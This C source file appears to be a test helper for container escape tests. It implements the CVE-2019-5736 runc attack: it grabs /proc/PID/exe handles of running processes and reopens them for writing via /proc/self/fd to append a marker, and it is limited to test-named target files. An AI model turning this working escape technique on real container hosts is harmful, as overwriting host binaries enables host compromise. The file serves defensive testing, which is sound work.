/* grab_exe: the CVE-2019-5736 attacker, run inside a container by the escape tests.
 *
 *   grab_exe STOPFILE MAX_MS DEV:INO...
 *
 * Scans /proc for processes and opens each one's /proc/PID/exe read-only (allowed while a
 * binary runs, and enough to keep a handle on the file), keeping one fd per distinct file
 * among the TARGETS: the files, named by device and inode, that the test made for it in its
 * scratch dir (a throw-away copy of the runtime, say). It never keeps, let alone writes, any
 * other file: run by mistake on a host it would otherwise append to the host's binaries. It prints "SCANNED" after its first pass, and stops scanning
 * when STOPFILE exists or MAX_MS have passed. Then, for each file it holds, it reopens the
 * file for writing through /proc/self/fd/N (what the 2019 exploit did once the runtime had
 * exited), retrying while the file is still being executed (ETXTBSY), and appends a marker.
 * It prints one line per file: "WROTE dev:ino" or "DENIED dev:ino ERRNO", a count of
 * refused opens, and "DONE".
 *
 * Bounded: at most MAX_MS of scanning, 64 files, 3 s of write attempts per file, and one
 * 7-byte write per file, to the targets only.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_FILES 64

static long now_ms(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

int main(int argc, char **argv) {
    if (argc < 4 || argc - 3 > MAX_FILES) {
        fprintf(stderr, "usage: grab_exe STOPFILE MAX_MS DEV:INO...\n");
        return 2;
    }
    int ntargets = argc - 3;
    unsigned long tdev[MAX_FILES], tino[MAX_FILES];
    for (int i = 0; i < ntargets; i++) {
        if (sscanf(argv[3 + i], "%lu:%lu", &tdev[i], &tino[i]) != 2) {
            fprintf(stderr, "grab_exe: bad target %s\n", argv[3 + i]);
            return 2;
        }
    }
    const char *stop = argv[1];
    long deadline = now_ms() + atol(argv[2]);
    struct stat self;
    if (stat("/proc/self/exe", &self) != 0) {
        perror("stat /proc/self/exe");
        return 2;
    }
    int fds[MAX_FILES];
    dev_t devs[MAX_FILES];
    ino_t inos[MAX_FILES];
    int n = 0, refused = 0, passes = 0;
    pid_t me = getpid();
    while (now_ms() < deadline && access(stop, F_OK) != 0) {
        DIR *d = opendir("/proc");
        if (!d) {
            perror("opendir /proc");
            return 2;
        }
        struct dirent *e;
        while ((e = readdir(d)) != NULL) {
            char *end;
            long pid = strtol(e->d_name, &end, 10);
            if (*end || pid <= 0 || pid == me)
                continue;
            char path[64];
            snprintf(path, sizeof path, "/proc/%ld/exe", pid);
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd < 0) {
                if (errno == EACCES || errno == EPERM)
                    refused++;
                continue;
            }
            struct stat st;
            int target = 0;
            if (fstat(fd, &st) == 0)
                for (int i = 0; i < ntargets; i++)
                    target |= tdev[i] == (unsigned long)st.st_dev && tino[i] == (unsigned long)st.st_ino;
            int seen = !target || (st.st_dev == self.st_dev && st.st_ino == self.st_ino);
            for (int i = 0; i < n && !seen; i++)
                seen = devs[i] == st.st_dev && inos[i] == st.st_ino;
            if (seen || n == MAX_FILES) {
                close(fd);
                continue;
            }
            fds[n] = fd;
            devs[n] = st.st_dev;
            inos[n] = st.st_ino;
            n++;
            printf("GRAB pid %ld %lu:%lu\n", pid, (unsigned long)st.st_dev, (unsigned long)st.st_ino);
            fflush(stdout);
        }
        closedir(d);
        if (++passes == 1) {
            printf("SCANNED\n");
            fflush(stdout);
        }
    }
    for (int i = 0; i < n; i++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", fds[i]);
        long until = now_ms() + 3000;
        int w;
        while ((w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC)) < 0 && errno == ETXTBSY && now_ms() < until)
            usleep(10000);
        if (w >= 0) {
            ssize_t r = write(w, "\nPWNED\n", 7);
            printf("WROTE %lu:%lu (%zd bytes)\n", (unsigned long)devs[i], (unsigned long)inos[i], r);
            close(w);
        } else {
            printf("DENIED %lu:%lu %s\n", (unsigned long)devs[i], (unsigned long)inos[i], strerrorname_np(errno));
        }
    }
    printf("REFUSED-OPENS %d\nDONE\n", refused);
    return 0;
}
